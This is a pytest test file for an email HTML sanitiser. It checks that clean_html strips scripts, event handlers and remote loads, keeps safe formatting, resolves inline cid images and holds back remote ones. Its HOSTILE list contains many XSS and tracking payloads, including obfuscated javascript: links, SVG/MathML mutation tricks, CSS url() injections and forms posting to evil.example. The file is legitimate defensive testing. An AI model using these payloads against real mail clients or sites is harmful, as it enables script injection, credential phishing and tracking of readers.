"""HTML of mails is cleaned when it is shown, and what is elsewhere is held back (H09)."""

import re
import time

import pytest

from jobrunner.services.mail.importing.html import clean_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'http://evil.example/x'; body { background: url(http://evil.example/y) }</style>",
    '<p style="background:url(http://evil.example/x)">',
    '<p style="background:u\\72l(http://evil.example/x)">',
    '<p style="width:expression(alert(1))">',
    "<p style=\"color:red;background-image:image-set('http://evil.example/x' 1x)\">",
    '<p style="list-style-type:url(http://evil.example/x)">',
    "<p style=\"font-family:'a;background:url(http://evil.example/x)'\">",
    '<p style="position:fixed;top:0;left:0;z-index:9">',
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=password><button formaction=http://evil.example/>x</button></form>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<link rel=stylesheet href=http://evil.example/x>",
    "<iframe src=http://evil.example/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/></object><embed src=http://evil.example/>",
    "<video poster=http://evil.example/x><source src=http://evil.example/y></video><audio src=http://evil.example/z>",
    "<table background=http://evil.example/x><tr><td background=http://evil.example/y>",
    '<img srcset="http://evil.example/x 1x">',
    '<img src="http://evil.example/x">',
    '<img src=" \n https://evil.example/x">',
    '<img src="//evil.example/x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="/a/relative/one">',
    '<input type=image src="http://evil.example/x">',
    "<!--[if mso]><img src=http://evil.example/x><![endif]-->",
    '<a ping="http://evil.example/x">x</a>',
    "<picture><source srcset=http://evil.example/x><img src=http://evil.example/y></picture>",
    "<blockquote cite=http://evil.example/x>y</blockquote>",
    "<div id=cookie class=menu name=body>x</div>",
]
WORDS = ("script", "onerror", "onload", "evil", "<svg", "<math", "<style", "<form", "<input", "position", "id=")
ALLOWED = re.compile(r' (?:style|title|target|rel|href|src|alt|align|width|height|border|colspan)="[^"]*"')


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_is_run_or_loaded(html: str):
    """H09."""
    cleaned = clean_html(f"<p>before</p>{html}<p>after</p>").html.lower()
    assert "before" in cleaned
    for word in (
        "script",
        "onerror",
        "onload",
        "evil",
        "<svg",
        "<math",
        "<style",
        "<form",
        "<input",
        "position",
        "id=",
    ):
        assert word not in cleaned, cleaned
    for tag in re.findall(r"<[a-z0-9]+([^<>]*)>", cleaned):
        assert not ALLOWED.sub("", tag), cleaned
    assert "src=" not in cleaned


def test_a_letter_stays_a_letter():
    table = '<table border="1"><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    html = f'<h1>Hi</h1><p style="color: red">a <b>b</b></p>{table}'
    assert clean_html(html).html == html


def test_links_open_elsewhere_and_say_nothing_of_us():
    cleaned = clean_html('<a href="https://example.com/?a=1&amp;b=2" target="_top">x</a>').html
    assert cleaned == (
        '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


def test_pictures_that_came_along():
    html = '<img src="cid:A%40b" alt="x"><img src="CID:a@B"><img src="cid:other">'
    cleaned = clean_html(html, {"a@b": "/emails/1/files/2"})
    assert cleaned.html == '<img src="/emails/1/files/2" alt="x"><img src="/emails/1/files/2"><img>'
    assert (cleaned.held_back, cleaned.missing) == (0, 1)


def test_pictures_from_elsewhere_wait_for_the_reader():
    """H09: what the cleaner itself would have kept."""
    html = '<img src="https://example.com/a.gif"><img src="http://example.com/b.gif"><img src="file:///c.gif">'
    held = clean_html(html)
    assert (held.html, held.held_back) == ("<img><img><img>", 2)
    shown = clean_html(html, remote_images=True)
    assert shown.html == '<img src="https://example.com/a.gif"><img src="http://example.com/b.gif"><img>'
    assert shown.held_back == 0


def test_small_pictures_within_the_html():
    html = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert clean_html(html).html == html


def test_only_harmless_declarations_stay():
    html = '<p style="COLOR: blue; position:fixed; behavior:url(x); text-align:center">a</p>'
    assert clean_html(html).html == '<p style="COLOR: blue; text-align:center">a</p>'


@pytest.mark.parametrize("opening", ["<div>", "<b>", "<div></p>", "<span></x>", "<blockquote><b>", "<ul><li>"])
def test_too_deep_is_shown_as_text(opening: str):
    started = time.process_time()
    cleaned = clean_html(opening * 40_000 + "1 &lt; 2")
    assert cleaned.is_text
    assert cleaned.html == "<pre>1 &lt; 2</pre>"
    assert time.process_time() - started < 2
